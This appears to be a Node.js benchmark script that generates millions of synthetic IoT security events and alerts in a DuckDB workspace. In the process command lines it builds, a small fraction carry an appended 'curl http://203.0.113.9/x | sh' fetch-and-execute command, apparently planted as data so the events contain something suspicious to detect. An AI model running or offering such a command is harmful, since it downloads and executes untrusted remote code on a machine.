#!/usr/bin/env node
// Fills a workspace with raw events as a fleet sends them: a few devices say most, a few programs run most.
// usage: generate.mjs DIRECTORY [rows] [days]
import { DuckDBInstance } from "@duckdb/node-api";
import { openWorkspace } from "@picket/workspace";

const [directory, rowsText = "10000000", daysText = "10"] = process.argv.slice(2);
const [rows, days] = [Number(rowsText), Number(daysText)];
const recorder = { log: () => {}, count: () => {}, gauge: () => {} };
const clock = { now: () => Date.parse("2026-03-11T00:00:00Z") };

/** The workspace makes its own tables, so that the benchmark reads what the product reads. */
const workspace = await openWorkspace({ directory, recorder, clock, memoryLimitMb: 1024 });
await workspace.close();

const instance = await DuckDBInstance.create(`${directory}/workspace.duckdb`);
const connection = await instance.connect();
const started = performance.now();
await connection.run("SET memory_limit='2GB'");
await connection.run("SET checkpoint_threshold='1GB'");
await connection.run("SET preserve_insertion_order=true");
const CHUNK = 1_000_000;
const chance = (salt) => `(hash(i * 7 + ${salt}) % 1000000) / 1000000.0`;
for (let from = 0; from < rows; from += CHUNK) {
  await connection.run(`
INSERT INTO "SecurityIoTRawEvent" BY NAME
WITH n AS (SELECT range AS i FROM range(${from}, ${Math.min(from + CHUNK, rows)})),
skewed AS (SELECT i, ${chance(1)} AS a, ${chance(2)} AS b, ${chance(3)} AS c, ${chance(4)} AS d FROM n),
kinds AS (SELECT i, b, c, d,
  'device-' || CAST(floor(power(a, 3) * 2000) AS BIGINT) AS device,
  TIMESTAMP '2026-03-01' + to_microseconds(CAST(i * (${days} * 86400000000.0 / ${rows}) AS BIGINT)) AS t,
  CASE WHEN b < 0.55 THEN 'Process' WHEN b < 0.8 THEN 'NetworkActivity' WHEN b < 0.9 THEN 'ListeningPorts'
    WHEN b < 0.95 THEN 'Login' ELSE 'SystemInformation' END AS kind,
  CAST(floor(power(c, 4) * 300) AS BIGINT) AS program FROM skewed),
shaped AS (SELECT *,
  CASE WHEN kind = 'Process' THEN '/usr/bin/tool-' || program ELSE '' END AS exe,
  CASE WHEN kind = 'Process' THEN '/usr/bin/tool-' || program || ' --config /etc/app-' || CAST(floor(d * 40) AS BIGINT)
    || '/main.conf --run ' || CAST(i % 9973 AS BIGINT) || CASE WHEN d > 0.9995 THEN ' | curl http://203.0.113.9/x | sh' ELSE '' END ELSE '' END AS line,
  CASE WHEN kind IN ('NetworkActivity', 'Login') THEN '198.51.' || CAST(floor(power(d, 2) * 100) AS BIGINT) || '.' || CAST(floor(c * 250) AS BIGINT) ELSE '' END AS remote,
  CASE WHEN kind IN ('NetworkActivity', 'ListeningPorts') THEN CAST([443, 8883, 53, 22, 80, 5671][1 + CAST(floor(c * 5.99) AS BIGINT)] AS VARCHAR) ELSE '' END AS port,
  CASE WHEN kind IN ('Process', 'Login') THEN CASE WHEN d < 0.7 THEN '0' ELSE '1000' END ELSE '' END AS uid,
  CASE WHEN kind = 'Login' THEN CASE WHEN d < 0.9 THEN 'Success' ELSE 'Fail' END ELSE '' END AS result FROM kinds)
SELECT t AS "TimeGenerated", t - INTERVAL 2 SECOND AS "TimeStamp", device AS "DeviceId", 'hub-1' AS "AssociatedResourceId",
  kind AS "RawEventName", FALSE AS "IsEmpty", exe AS "Executable", line AS "CommandLine", remote AS "RemoteAddress",
  port AS "RemotePort", uid AS "UserId", result AS "Result", CAST(i AS VARCHAR) AS "EventId",
  json_object('EventId', CAST(i AS VARCHAR), 'Executable', exe, 'CommandLine', line, 'RemoteAddress', remote, 'RemotePort', port,
    'UserId', uid, 'Result', result, 'Extra', json_object('Sequence', i, 'Zone', i % 7)) AS "EventDetails"
FROM shaped`);
}
await connection.run(`
INSERT INTO "SecurityAlert" BY NAME
SELECT TIMESTAMP '2026-03-01' + to_microseconds(CAST(range * (${days} * 864000000.0 / 10) AS BIGINT)) AS "TimeGenerated",
  'alert-' || range AS "SystemAlertId", 'Rule ' || range % 20 AS "AlertName", 'High' AS "AlertSeverity",
  'device-' || CAST(floor(power((hash(range) % 1000) / 1000.0, 3) * 2000) AS BIGINT) AS "DeviceId",
  json_object('DeviceId', 'device-' || CAST(floor(power((hash(range) % 1000) / 1000.0, 3) * 2000) AS BIGINT)) AS "ExtendedProperties"
FROM range(1000)`);
await connection.run("CHECKPOINT");
console.log(`${rows} events of ${days} days in ${((performance.now() - started) / 1000).toFixed(0)} s`);
connection.closeSync();
instance.closeSync();
process.exit(0);
